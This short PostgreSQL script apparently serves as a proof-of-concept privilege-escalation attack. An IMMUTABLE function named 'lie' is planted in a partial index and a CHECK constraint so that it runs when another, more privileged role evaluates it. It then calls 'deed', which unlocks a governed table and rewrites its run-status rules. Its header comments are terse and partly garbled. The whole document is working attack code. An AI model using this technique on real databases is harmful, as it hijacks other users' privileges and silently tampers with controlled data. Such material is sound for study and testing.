-- role: owner
-- tries: a function that the planner computes while we read a run for a change of its files
-- none: bites
-- guarded: held
-- locked: held
CREATE FUNCTION public.deed() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  UPDATE retry_ledger.governed_table SET locked = false;
  UPDATE retry_ledger.governed_table SET ended_statuses = '{}', active_statuses = '{queued,running,completed,failed}', transitions = NULL
    WHERE run_table = 'app.runs'::regclass;
  RAISE WARNING 'done as %', current_user;
EXCEPTION WHEN OTHERS THEN RAISE WARNING '% as %', SQLERRM, current_user;
END $$;
CREATE FUNCTION public.lie(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  IF session_user = 'attack_owner' AND current_user <> 'attack_owner' THEN PERFORM public.deed(); END IF;
  RETURN true;
END $$;
CREATE INDEX mine ON flows (id) WHERE public.lie('x');
ALTER TABLE flows ADD CONSTRAINT mine CHECK (public.lie('x'));
\c
SET constraint_exclusion = on;
UPDATE flow_files SET status = 'processing' WHERE id = 22;
\c
UPDATE runs SET error = 'x' WHERE id = 2;
